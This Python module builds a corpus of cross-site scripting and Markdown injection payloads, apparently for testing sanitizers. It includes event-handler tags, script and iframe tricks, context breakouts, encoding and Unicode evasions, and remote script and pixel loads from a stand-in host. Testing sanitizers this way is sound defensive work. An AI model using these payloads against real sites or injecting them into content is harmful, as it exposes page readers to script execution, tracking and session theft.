"""Attacks on readers of a page: each would set ``window.__p`` or load something.

They cover the classes of attacks that browsers and sanitizers are known to miss.
"""

from __future__ import annotations

from collections.abc import Iterator

__all__ = ["PAYLOADS", "batches"]

_RUN = "window.__p=1"
_FAR = "https://evil.invalid"

_HANDLERS = (
    *("onerror", "onload", "onclick", "onfocus", "onmouseover", "onpointerenter"),
    *("ontoggle", "onanimationstart", "onbegin", "onscroll", "onpageshow", "oncut"),
)
_HOSTS = (
    "<img src=x {on}={run}>",
    "<svg {on}={run}>",
    "<svg><animate {on}={run} attributeName=x dur=1s>",
    "<body {on}={run}>",
    "<details open {on}={run}><summary>x</summary></details>",
    "<input autofocus {on}={run}>",
    "<video><source {on}={run}></video>",
    "<marquee {on}={run}>x</marquee>",
)
_SCRIPTS = (
    "<script>{run}</script>",
    "<SCRIPT>{run}</SCRIPT>",
    "<script src={far}/x.js></script>",
    "<script type=module>{run}</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script/x>{run}</script>",
    "<svg><script>{run}</script></svg>",
    "<math><mtext><script>{run}</script></mtext></math>",
    "<template><script>{run}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={run}>">',
    "<iframe srcdoc='<script>parent.__p=1</script>'></iframe>",
    "<iframe src=javascript:parent.__p=1></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src={far}/x.swf>",
    "<base href={far}/>",
    "<meta http-equiv=refresh content='0;url={far}'>",
    "<link rel=stylesheet href={far}/x.css>",
    "<style>@import '{far}/x.css';</style>",
    "<style>*{{background:url({far}/x.png)}}</style>",
    "<p style='background:url({far}/x.png)'>x</p>",
    "<form action={far}><button autofocus>x</button></form>",
    "<img src={far}/pixel.png>",
    "<img srcset='{far}/pixel.png 1x'>",
    "<picture><source srcset={far}/p.png><img></picture>",
    "<audio src={far}/a.mp3 autoplay></audio>",
    "<svg><use href={far}/x.svg#y></use></svg>",
    "<svg><image href={far}/x.png></image></svg>",
    "<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>",
    "<table background={far}/x.png><tr><td>x</table>",
    "<a href=javascript:{run}>x</a>",
    "<a href={far} ping={far}/ping>x</a>",
    "<isindex type=image src=1 onerror={run}>",
    "<xml onreadystatechange={run}>",
    "<portal src={far}></portal>",
)
_BREAKS = (
    '"><img src=x onerror={run}>',
    "'><img src=x onerror={run}>",
    '" onmouseover="{run}" x="',
    "' onfocus='{run}' autofocus='",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</style><script>{run}</script>",
    "</script><script>{run}</script>",
    "</pre></code><img src=x onerror={run}>",
    "</summary></details><img src=x onerror={run}>",
    "--><img src=x onerror={run}><!--",
    "]]><img src=x onerror={run}>",
    "<!--<img src='--><img src=x onerror={run}>'>",
    "<![CDATA[<img src=x onerror={run}>]]>",
    "<a title='</a><img src=x onerror={run}>'>",
    "\x00<img src=x onerror={run}>",
    "<\x00img src=x onerror={run}>",
    "<img\x0bsrc=x\x0conerror={run}>",
    "<img/src='x'/onerror={run}>",
    "<img src=x onerror=\n{run}\n>",
    "<img src=`x`onerror={run}>",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "<\u017fcript>{run}</\u017fcript>",
    "&lt;img src=x onerror={run}&gt;",
    "&#60;img src=x onerror={run}&#62;",
    "%3Cimg src=x onerror={run}%3E",
    "\\u003cimg src=x onerror={run}\\u003e",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{alert(1)}}<%= {run} %>{{% {run} %}}",
    "javascript:{run}",
    "\u202e>{run}=rorreno x=crs gmi<",
    "<img\u200bsrc=x\u200bonerror={run}>",
    "\x1b[31m<img src=x onerror={run}>\x1b[0m",
    "\x1b]8;;javascript:{run}\x1b\\x\x1b]8;;\x1b\\",
)
_MARKDOWN = (
    "[x](javascript:{run})",
    "[x](JaVaScRiPt:{run})",
    "[x](java\nscript:{run})",
    "[x](&#106;avascript:{run})",
    "[x](javascript&colon;{run})",
    "[x](\x01javascript:{run})",
    "[x](vbscript:{run})",
    "[x](data:text/html,<script>{run}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](<javascript:{run}>)",
    "[x][y]\n\n[y]: javascript:{run}",
    "[x]: <data:text/html,{run}>\n[x]",
    "<javascript:{run}>",
    "![x](javascript:{run})",
    "![x]({far}/pixel.png)",
    '![x]({far}/pixel.png "t" onload={run})',
    "[![x]({far}/a.png)](javascript:{run})",
    "![x](data:image/svg+xml,<svg onload={run}>)",
    "[x](https://a.invalid \"' onmouseover='{run}\")",
    '[x](https://a.invalid"onmouseover={run})',
    '```"><img src=x onerror={run}>\nx\n```',
    "```html\n<img src=x onerror={run}>\n```",
    "~~~ <script>{run}</script>\nx\n~~~",
    "`<img src=x onerror={run}>`",
    "`` ` <img src=x onerror={run}> ` ``",
    "    <img src=x onerror={run}>",
    "> <img src=x onerror={run}>",
    "- <img src=x onerror={run}>",
    "| <img src=x onerror={run}> |\n|---|\n| <script>{run}</script> |",
    "# <img src=x onerror={run}>",
    "<img src=x\n\nonerror={run}>",
    "**<img src=x onerror={run}>**",
    '<http://a.invalid/"onmouseover={run}>',
    '<a@b.invalid"onmouseover={run}>',
    "[^1]\n\n[^1]: <img src=x onerror={run}>",
    "$$<img src=x onerror={run}>$$",
    "```mermaid\nclick A call {run}\n```",
    "[[<img src=x onerror={run}>]]",
    "<details><summary>x</summary>\n\n<img src=x onerror={run}>\n\n</details>",
    "*[x]: <script>{run}</script>",
)


def _build_payloads() -> Iterator[str]:
    for host in _HOSTS:
        for handler in _HANDLERS:
            yield host.format(on=handler, run=_RUN, far=_FAR)
            yield host.format(on=handler.upper(), run=f"'{_RUN}'", far=_FAR)
    for shape in (*_SCRIPTS, *_BREAKS, *_MARKDOWN):
        yield shape.format(run=_RUN, far=_FAR)


PAYLOADS = tuple(dict.fromkeys(_build_payloads()))
"""Every attack, once."""


def batches(size: int) -> list[str]:
    """Return attacks in groups, separated as in a text."""
    return [
        "\n\n".join(PAYLOADS[at : at + size]) for at in range(0, len(PAYLOADS), size)
    ]
